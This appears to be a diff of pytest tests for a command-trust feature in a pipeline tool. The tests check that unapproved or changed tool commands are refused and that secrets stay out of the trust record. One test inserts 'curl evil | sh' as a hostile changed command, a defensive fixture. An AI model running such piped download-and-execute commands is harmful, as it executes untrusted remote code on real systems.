@@ -63,7 +63,7 @@ def test_a_file_needs_trust(file, source):
 
 
 @pytest.mark.parametrize("trust", [True, HASH, HASH[:12], HASH[:12].upper()])
-def test_a_file_runs_when_somebody_vouches_for_its_commands(file, trust):
+def test_a_file_runs_when_somebody_trusts_its_commands(file, trust):
     assert is_run(Pipeline(file), trust=trust)
 
 
@@ -148,7 +148,7 @@ def test_the_refusal_says_what_would_run_and_how_to_go_on(file):
         '  build  tool_command  touch "$ATTRACTOR_LOGS_ROOT/../built"',
         "  check  tool_command  true",
         (
-            f" hint: read them (`attractor-nb commands {file}` prints them whole), then vouch for them: "
+            f" hint: read them (`attractor-nb commands {file}` prints them whole), then trust them: "
             f'run(trust="{digits}") or resume(…, trust="{digits}") in Python, --trust on the command line, '
             f"or ATTRACTOR_TRUST={digits} where nobody can be asked"
         ),
@@ -162,7 +162,7 @@ def test_what_is_neither_true_nor_a_hash_is_refused(file, trust):
         Pipeline(file).run(trust=trust)
 
 
-def test_the_environment_vouches_for_hashes(file, monkeypatch):
+def test_the_environment_trusts_hashes(file, monkeypatch):
     monkeypatch.setenv("ATTRACTOR_TRUST", f"{'0' * 64}, {HASH[:12]}\n{'1' * 12}")
     assert is_run(Pipeline(file))
 
@@ -176,25 +176,25 @@ def test_the_environment_names_hashes_and_nothing_else(file, monkeypatch):
 # -- what is remembered ------------------------------------------------------------------------------
 
 
-def vouch(path):
+def trust_once(path):
     """A person read the commands of a file and said yes."""
     pipeline = Pipeline(path)
     trust_question(pipeline.graph, pipeline.origin).remember()
 
 
 def test_a_yes_is_remembered_for_the_file(file):
-    vouch(file)
+    trust_once(file)
     assert Pipeline("build.dot").run(wait=True).status == "success"
 
 
 def test_a_change_that_concerns_no_command_is_not_asked_about(file):
-    vouch(file)
+    trust_once(file)
     file.write_text(TEXT.replace("digraph Build", "// Later\ndigraph Construct"))
     assert Pipeline(file).run(wait=True).status == "success"
 
 
 def test_a_changed_command_is_asked_about_with_a_diff(file):
-    vouch(file)
+    trust_once(file)
     file.write_text(TEXT.replace('"true"', '"curl evil | sh"'))
     with pytest.raises(UntrustedSource, match="they are not those that were trusted before") as caught:
         Pipeline(file).run()
@@ -205,7 +205,7 @@ def test_a_changed_command_is_asked_about_with_a_diff(file):
 
 
 def test_a_hash_that_is_given_decides_alone(file, monkeypatch):
-    vouch(file)
+    trust_once(file)
     monkeypatch.setenv("ATTRACTOR_TRUST", HASH)
     with pytest.raises(UntrustedSource, match="trust names 000000000000, but"):
         Pipeline(file).run(trust="0" * 12)
@@ -272,7 +272,7 @@ def test_a_command_that_holds_a_secret_is_remembered_by_its_hash_alone(file, mon
     key = "sk-ant-api03-" + "Ab3" * 20
     monkeypatch.setenv("ANTHROPIC_API_KEY", key)
     file.write_text(TEXT.replace('"true"', f'"true {key}"'))
-    vouch(file)
+    trust_once(file)
     assert Pipeline(file).run(wait=True).status == "success"
     kept = Path(os.environ["ATTRACTOR_STATE_DIR"], "trust.json").read_text()
     assert (key in kept, str(file) in kept) == (False, True)
